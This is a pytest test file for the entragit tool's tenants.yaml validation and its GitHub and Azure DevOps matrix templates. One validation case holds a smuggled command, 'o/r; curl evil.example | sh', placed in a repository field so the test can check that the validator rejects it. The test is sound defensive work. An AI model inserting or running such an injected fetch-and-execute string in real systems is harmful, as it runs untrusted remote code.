"""A service provider's tenants: tenants.yaml, checked and turned into each platform's matrix by `entragit
tenants`, and the matrix templates that run one snapshot job per tenant from it."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from ruamel.yaml import YAML

import entragit

from tests.ci_lint import actionlint, schema_errors
from tests.conftest import run

# The files as they ship inside the package.
TEMPLATES = Path(entragit.__file__).parent / "templates"
GITHUB = TEMPLATES / "github" / "entragit-matrix.yml"
AZURE = TEMPLATES / "azure-devops" / "entragit-matrix.yml"
TENANTS = """\
tenants:
  - name: contoso
    repository: provider/entra-backup-contoso
  - name: fabrikam_eu
    repository: provider/entra-backup.fabrikam
    client_id: 4a1aa1d5-c567-49d0-ad0b-cd957a47f842
"""


def _steps(path: Path) -> list[dict[str, object]]:
    data = YAML(typ="safe").load(path.read_text())
    jobs = data["jobs"].values() if isinstance(data["jobs"], dict) else data["jobs"]
    return [step for job in jobs for step in job["steps"]]


def _tenants(tmp_path: Path, text: str = TENANTS) -> Path:
    path = tmp_path / "tenants.yaml"
    path.write_text(text)
    return path


def test_the_matrix_templates_pass_the_linters() -> None:
    assert actionlint(GITHUB) == []
    assert schema_errors("github", GITHUB) == ""
    assert schema_errors("azure-devops", AZURE) == ""


def test_the_github_matrix_gives_each_job_what_the_template_reads(tmp_path: Path) -> None:
    listing = next(step for step in _steps(GITHUB) if step.get("id") == "list")
    assert "entragit tenants tenants.yaml --matrix github" in str(listing["run"])

    entries = json.loads(run("tenants", str(_tenants(tmp_path)), "--matrix", "github").output)

    assert [e["name"] for e in entries] == ["contoso", "fabrikam_eu"]
    assert entries[1]["client_id"] == "4a1aa1d5-c567-49d0-ad0b-cd957a47f842" and entries[0]["client_id"] == ""
    read = set(re.findall(r"matrix\.tenant\.(\w+)", GITHUB.read_text()))
    assert read and read <= set(entries[0])


def test_the_azure_matrix_gives_each_leg_the_variables_the_template_reads(tmp_path: Path) -> None:
    listing = next(step for step in _steps(AZURE) if step.get("name") == "list")
    assert "entragit tenants tenants.yaml --matrix azure-devops" in str(listing["script"])

    legs = json.loads(run("tenants", str(_tenants(tmp_path)), "--matrix", "azure-devops").output)

    assert set(legs) == {"contoso", "fabrikam_eu"}
    assert legs["fabrikam_eu"]["backupRepository"] == "provider/entra-backup.fabrikam"
    code = "\n".join(line for line in AZURE.read_text().splitlines() if not line.lstrip().startswith("#"))
    read = set(re.findall(r"\$\((\w+)\)", code)) - {"ENTRAGIT_VERSION"}  # the pipeline's own variable
    assert read and read <= set(legs["contoso"]), read - set(legs["contoso"])


@pytest.mark.parametrize("entry, message", [
    ("  - name: a\n    repository: o/r\n  - name: A\n    repository: o/s\n", "the name 'A' is given twice"),
    ("  - name: a\n    repository: 'o/r; curl evil.example | sh'\n", "tenant 1: repository must be OWNER/NAME"),
    ("  - name: a b\n    repository: o/r\n", "tenant 1: name must be letters, digits and _"),
    ("  - name: a\n    repository: o/r\n    client_id: not-a-guid\n", "tenant 1: client_id must be an application"),
    ("  - name: a\n    repository: o/r\n    secret: x\n", "tenant 1: takes name and repository, and optionally"),
])
def test_a_bad_tenants_file_is_one_line_naming_the_entry(tmp_path: Path, entry: str, message: str) -> None:
    result = run("tenants", str(_tenants(tmp_path, "tenants:\n" + entry)), "--matrix", "github", ok=False)

    assert result.exit_code == 1
    assert result.output.startswith("error: ") and message in result.output
    assert len(result.output.splitlines()) == 1
